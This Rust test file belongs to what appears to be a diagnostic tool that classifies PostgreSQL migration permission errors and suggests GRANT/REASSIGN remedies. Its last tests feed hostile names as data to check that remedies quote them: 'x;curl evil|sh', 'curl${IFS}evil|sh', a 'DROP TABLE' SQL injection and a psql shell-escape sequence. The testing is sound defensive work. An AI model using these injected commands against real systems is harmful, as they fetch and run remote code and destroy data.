//! What PostgreSQL refuses, and what is said of it.

use rstest::rstest;
use serde_json::json;

use crate::{
    causes::{
        diagnose, diagnose_log,
        log::{failure::Stage, testing::recognise},
        migrations::shared::testing::{good, with_preflight},
    },
    fixtures::{installation, spec},
    model::{
        Code::{self, *},
        Component,
    },
    observe::{Owner, Preflight},
};

#[rstest]
#[case(
    "permission denied for schema public\nLINE 1: CREATE TABLE",
    MigrationPermissionDenied,
    "schema public"
)]
#[case(
    "must be owner of table users_hubspottracker",
    MigrationPermissionDenied,
    "table users_hubspottracker"
)]
#[case(
    "must be owner of relation users_hubspottracker",
    MigrationPermissionDenied,
    "table users_hubspottracker"
)]
#[case(
    "no schema has been selected to create in",
    MigrationPermissionDenied,
    "any schema of its search_path"
)]
#[case("permission denied for table django_migrations", MigrationPermissionDenied, "table django_migrations")]
#[case(
    "permission denied to create extension \"hstore\"\nHINT:  Must have CREATE privilege on current database to create this extension.",
    MigrationExtensionUnavailable,
    "hstore"
)]
#[case(
    "permission denied to create role\nDETAIL:  Only roles with the CREATEROLE attribute may create roles.",
    MigrationPermissionDenied,
    "create role"
)]
#[case(
    "スキーマpublicへのアクセスが拒否されました\nLINE 1: CREATE TABLE \"django_migrations\"",
    MigrationPermissionDenied,
    "schema public"
)]
#[case(
    "Berechtigung nur für Eigentümer der Tabelle »users_ffadminuser«",
    MigrationPermissionDenied,
    "users_ffadminuser"
)]
fn refused(#[case] message: &str, #[case] expected: Code, #[case] object: &str) {
    let (code, details) =
        recognise(Stage::Migrate, "psycopg2.errors.InsufficientPrivilege", message).unwrap();
    assert_eq!((code, details.object.as_deref()), (expected, Some(object)));
}

#[test]
fn the_evidence_names_owner_and_number_of_tables() {
    let owner = Owner { name: "postgres".to_owned(), tables: 44, example: "users_ffadminuser".to_owned() };
    let observation = with_preflight(Preflight { owners: vec![owner], ..good() });
    let found = diagnose(&installation(&spec(json!({}))), &observation);
    let first = found.first().unwrap();
    assert_eq!(
        first.evidence,
        [
            "database: users_ffadminuser (and 43 more of Flagsmith's tables) is owned by \"postgres\"; the migration connects as \"app\""
        ]
    );
    assert!(first.remedy.contains("REASSIGN OWNED BY postgres TO app;"), "{}", first.remedy);
}

#[rstest]
#[case("x;curl evil|sh", "\"x;curl evil|sh\"", "\"x;curl evil|sh\"")]
#[case("x\"; DROP TABLE t; --", "\"x\"\"; DROP TABLE t; --\"", "\"x\"\"; DROP TABLE t; --\"")]
#[case("x\u{1b}[2J\n\\! sh", "OLD_ROLE", "ROLE")]
fn hostile_names_are_quoted(#[case] name: &str, #[case] owner: &str, #[case] role: &str) {
    let observation = with_preflight(Preflight {
        role: name.to_owned(),
        schema: Some(name.to_owned()),
        creates_tables: false,
        owners: vec![Owner { name: name.to_owned(), tables: 1, example: "t".to_owned() }],
        ..good()
    });
    let found = diagnose(&installation(&spec(json!({}))), &observation);
    let schema = if owner == "OLD_ROLE" { "SCHEMA" } else { owner };
    let expected = format!(
        "as a superuser: GRANT USAGE, CREATE ON SCHEMA {schema} TO {role}; REASSIGN OWNED BY {owner} TO {role}; Or"
    );
    assert!(found[0].remedy.contains(&expected), "{}", found[0].remedy);
}

#[rstest]
#[case("table x;curl evil|sh", "ALTER TABLE \"x;curl evil|sh\" OWNER TO ROLE;")]
#[case("table x\"; DROP TABLE t; --", "ALTER TABLE \"x\"\"; DROP TABLE t; --\" OWNER TO ROLE;")]
#[case("t;curl${IFS}evil|sh x", "\\dt and \\dn+ in psql")]
fn hostile_objects_of_a_log_are_quoted(#[case] object: &str, #[case] expected: &str) {
    let log = format!("psycopg2.errors.InsufficientPrivilege: must be owner of {object}\n");
    let found = diagnose_log(Component::Migrations, None, "log", log.as_bytes());
    let (_, first) = found.first().unwrap();
    assert_eq!(first.code, MigrationPermissionDenied);
    assert!(first.remedy.contains(expected), "{}", first.remedy);
    assert!(!first.remedy.contains("curl${IFS}"), "{}", first.remedy);
}
